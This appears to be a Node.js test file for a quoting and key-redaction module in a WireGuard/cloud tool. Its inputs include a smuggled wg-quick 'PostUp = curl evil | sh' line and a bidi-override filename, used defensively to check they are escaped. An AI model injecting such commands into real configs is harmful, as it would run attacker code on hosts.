import { test } from "node:test";
import assert from "node:assert/strict";
import { generateKeyPair, generatePresharedKey } from "../../infra/keys";
import { escapeUnprintable, hasUnprintable, quote, quoteWg, redactKeyMaterial } from "../../infra/quote";

test("quote: double quotes, control and invisible characters escaped, quotes and backslashes escaped", () => {
  assert.equal(quote("t3.micro"), '"t3.micro"');
  assert.equal(quote("100.64.3.1\t"), '"100.64.3.1\\t"');
  assert.equal(quote("t3.micro\nPostUp = curl evil | sh"), '"t3.micro\\nPostUp = curl evil | sh"');
  assert.equal(quote("a\r\u0000\u001b[31m\u007f\u0085b"), '"a\\r\\u{0000}\\u{001B}[31m\\u{007F}\\u{0085}b"');
  assert.equal(quote("evil\u202Etxt.exe\u200B"), '"evil\\u{202E}txt.exe\\u{200B}"', "bidi override and zero-width space");
  assert.equal(quote("line\u2028sep"), '"line\\u{2028}sep"');
  assert.equal(quote('say "hi" \\n'), '"say \\"hi\\" \\\\n"', "a backslash the user wrote is not mistaken for an escape");
  assert.equal(quote(null), '"null"');
  assert.equal(quote(42), '"42"');
  for (const s of ["a\nb", "\u0007", "x\u2029"]) assert.equal(hasUnprintable(quote(s)), false);
  assert.equal(escapeUnprintable("plain"), "plain");
});

test("quote: a long value is cut and says how long it was", () => {
  const long = "x".repeat(500);
  const q = quote(long);
  assert.equal(q, `"${"x".repeat(60)}…" (500 characters)`);
  assert.ok(quote("y".repeat(60)).endsWith('y"'));
});

test("key material is hidden in every form: whole, without padding, cut, inside other text", () => {
  const { privateKey } = generateKeyPair();
  const psk = generatePresharedKey();
  for (const form of [privateKey, privateKey.replace(/=$/, ""), privateKey.slice(0, 40), `PrivateKey=${privateKey}`, `x ${psk} y`]) {
    const out = quote(form);
    assert.ok(!out.includes(privateKey.slice(0, 16)) && !out.includes(psk.slice(0, 16)), `${form} -> ${out}`);
    assert.match(out, /hidden: may be key material/);
  }
  // In wg-quick values any mixed base64 run of 16 or more is hidden.
  assert.match(quoteWg(privateKey.slice(10, 30)), /hidden/);
  // Ordinary words, ids and paths stay readable.
  for (const ok of ["ubuntu-os-cloud/ubuntu-2404-lts-amd64", "ami-0123456789abcdef0", "Canonical:ubuntu-24_04-lts:server:latest", "projects/my-project/global/networks/default"]) {
    assert.equal(redactKeyMaterial(ok), ok);
  }
});
